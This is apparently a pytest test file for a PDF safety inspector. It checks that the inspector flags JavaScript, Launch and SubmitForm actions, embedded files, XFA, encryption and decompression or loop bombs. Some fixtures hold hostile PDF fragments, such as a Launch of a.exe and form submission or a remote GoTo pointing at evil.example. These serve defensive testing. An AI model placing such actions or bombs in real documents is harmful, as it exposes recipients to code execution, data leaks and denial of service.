import time
from contextlib import suppress
from pathlib import Path

import pikepdf
import pytest

from app.files import pdf
from app.kernel.errors import Unavailable
from tests.files import pdfs


@pytest.fixture
def inspect(tmp_path):
    def inspecting(content: bytes, **options) -> pdf.Inspection:
        path = tmp_path / "file.pdf"
        path.write_bytes(content)
        return pdf.inspect(path, **options)

    return inspecting


def test_an_ordinary_document_is_clean(inspect):
    assert inspect(pdfs.plain()) == pdf.Inspection(
        findings=frozenset(), notices={}, pages=1, title="A joint project"
    )


@pytest.mark.parametrize(
    ("content", "findings"),
    [
        (b"", {"not_pdf"}),
        (b"<html><body>%PDF-1.7", {"not_pdf"}),
        (b"GIF89a" + pdfs.plain(), {"not_pdf"}),
        (pdfs.plain()[:-7], {"truncated"}),
        (pdfs.plain()[:700], {"truncated", "damaged"}),
        (pdfs.write(pdfs.objects() | {4: pdfs.stream(b"no deflate", b"/Filter /FlateDecode")}), {"damaged"}),
        (pdfs.acting(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), {"javascript"}),
        (pdfs.acting(b"<< /S /J#61vaScript /JS (1) >>"), {"javascript"}),
        (pdfs.acting(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"), {"javascript"}),
        (pdfs.plain(catalog=b"/Names << /JavaScript << /Names [(a) 9 0 R] >> >>"), {"javascript"}),
        (pdfs.acting(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (a.exe) >> >>"), {"action"}),
        (pdfs.acting(b"<< /S /SubmitForm /F (https://evil.example) >>"), {"action"}),
        (pdfs.acting(b"<< /S /ImportData /F (a.fdf) >>"), {"action"}),
        (pdfs.acting(rb"<< /S /GoToR /F (\\evil.example\x) /D [0 /Fit] >>"), {"action"}),
        (pdfs.acting(b"<< /S /GoToE /T << >> >>"), {"action"}),
        (pdfs.plain(on_page=b"/AA << /O << /S /Launch /F (a.exe) >> >>"), {"action"}),
        (pdfs.with_attachment(), {"embedded_files"}),
        (pdfs.plain(on_page=b"/Annots [<< /Subtype /FileAttachment >>]"), {"embedded_files"}),
        (pdfs.plain(on_page=b"/Annots [<< /Subtype /RichMedia >>]"), {"rich_media"}),
        (pdfs.acting(b"<< /S /Rendition /OP 0 >>"), {"rich_media"}),
        (pdfs.plain(catalog=b"/AcroForm << /Fields [] /XFA [(template) 9 0 R] >>"), {"xfa"}),
    ],
)
def test_each_reason_to_refuse_is_told(inspect, content, findings):
    assert inspect(content).findings == findings


def test_all_reasons_are_told_at_once(inspect):
    media = b"/Annots [<< /Subtype /Movie >>] /AA << /O << /S /Launch /F (a) >> >>"
    script = b"/OpenAction << /S /JavaScript /JS (1) >> /AcroForm << /XFA [] >>"
    found = inspect(pdfs.plain(catalog=script, on_page=media))
    assert found.findings == {"javascript", "xfa", "action", "rich_media"}


@pytest.mark.parametrize(
    "content",
    [
        pdfs.acting(b"[3 0 R /Fit]"),
        pdfs.acting(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
        pdfs.plain(
            on_page=b"/Annots [<< /Subtype /Link /A << /S /URI /URI (https://doi.org/10.1000/1) >> >>]"
        ),
        pdfs.plain(on_page=b"/Annots [<< /Subtype /Link /Contents (see /JavaScript and /Launch) >>]"),
        pdfs.plain(catalog=b"/AcroForm << /Fields [] >>"),
        pdfs.plain(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >>"),
    ],
)
def test_links_forms_and_words_are_no_reason(inspect, content):
    assert inspect(content).findings == frozenset()


def test_a_protected_document_is_encrypted(tmp_path):
    path, protected = tmp_path / "open.pdf", tmp_path / "protected.pdf"
    path.write_bytes(pdfs.plain())
    for user in ("", "secret"):
        with pikepdf.open(path) as document:
            document.save(protected, encryption=pikepdf.Encryption(owner="owner", user=user))
        assert pdf.inspect(protected).findings == {"encrypted"}


def test_pages_and_title_are_facts(inspect):
    assert inspect(pdfs.with_pages(301)).pages == 301
    japanese = pdfs.plain().replace(b"(A joint project)", b"<FEFF91CF5B50>")
    assert inspect(japanese).title == "量子"


def test_notices_do_not_refuse(inspect):
    scan = inspect(pdfs.plain(content=b"0 0 99 99 re f"))
    assert (scan.findings, scan.notices) == (frozenset(), {"no_text": {}})
    font = (
        b"<< /Type /Font /Subtype /TrueType /BaseFont /Mincho /FontDescriptor << /Type /FontDescriptor >> >>"
    )
    unembedded = inspect(pdfs.write(pdfs.objects() | {6: font}))
    assert (unembedded.findings, unembedded.notices) == (
        frozenset(),
        {"fonts_not_embedded": {"fonts": ["Mincho"]}},
    )


BOMBS = {
    "flate": (pdfs.flate_bomb, {"too_complex", "damaged"}),
    "nested flate": (pdfs.nested_flate_bomb, {"too_complex", "damaged"}),
    "run length": (pdfs.run_length_bomb, {"damaged"}),
    "predictor": (pdfs.predictor_bomb, {"damaged"}),
    "500,000 objects": (pdfs.many_objects, {"too_complex"}),
    "page tree loop": (pdfs.page_tree_loop, {"damaged"}),
    "cross reference loop": (pdfs.cross_reference_loop, {"damaged"}),
    "forms within forms": (pdfs.laughing_forms, {"too_complex"}),
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_refused_within_its_limits(inspect, name):
    build, findings = BOMBS[name]
    content = build()
    begun = time.perf_counter()
    assert inspect(content).findings == findings
    assert time.perf_counter() - begun < pdf.WALL_SECONDS + 1


@pytest.mark.parametrize("build", [pdfs.deep_nesting, pdfs.deep_outline, pdfs.entity_bomb, pdfs.many_pages])
def test_what_is_only_strange_is_read(inspect, build):
    assert inspect(build()).findings == frozenset()


@pytest.mark.parametrize("filter_name", [b"JPXDecode", b"JBIG2Decode"])
def test_pictures_are_not_decoded(inspect, filter_name):
    assert inspect(pdfs.picture(filter_name, bytes(100))).findings == frozenset()


def test_wall_time_is_a_limit(inspect):
    assert inspect(pdfs.ten_million_operators(), wall_seconds=5).findings == {"too_complex"}


def test_an_inspector_that_cannot_start_is_no_verdict(inspect, monkeypatch, tmp_path):
    monkeypatch.setattr(pdf, "ROOT", tmp_path)
    with pytest.raises(Unavailable) as refusal:
        inspect(pdfs.plain())
    assert refusal.value.code == "file.check_unavailable"
    monkeypatch.setattr(pdf.sys, "executable", str(tmp_path / "nothing"))
    with pytest.raises(Unavailable):
        inspect(pdfs.plain())


@pytest.mark.parametrize(
    ("end", "reason"), [(-11, {"damaged"}), (1, {"damaged"}), (-9, {"too_complex"}), (-24, {"too_complex"})]
)
def test_an_early_end_has_a_reason(end, reason):
    assert pdf._reason_of([{"ready": True}], end) == reason
    assert pdf._reason_of([{"ready": True}, {"done": True}], 0) == frozenset()


def test_an_inspector_that_says_too_much_is_stopped(inspect, monkeypatch):
    monkeypatch.setattr(pdf, "LONGEST_ANSWER", 16)
    assert inspect(pdfs.plain()) == pdf.Inspection(findings=frozenset({"too_complex"}))


def test_a_line_that_was_cut_short_is_left_out():
    assert pdf._lines(b'{"ready": true}\n{"fin') == [{"ready": True}]


def test_no_child_survives(inspect):
    before = set(Path("/proc").iterdir())
    with suppress(Unavailable):  # a busy machine may not even have begun by then
        inspect(pdfs.ten_million_operators(), wall_seconds=0.5)
    started = {path for path in Path("/proc").iterdir() if path.name.isdigit()} - before
    assert [path for path in started if "app.files.inspect" in _command(path)] == []


def _command(process: Path) -> str:
    try:
        return (process / "cmdline").read_text()
    except OSError:
        return ""
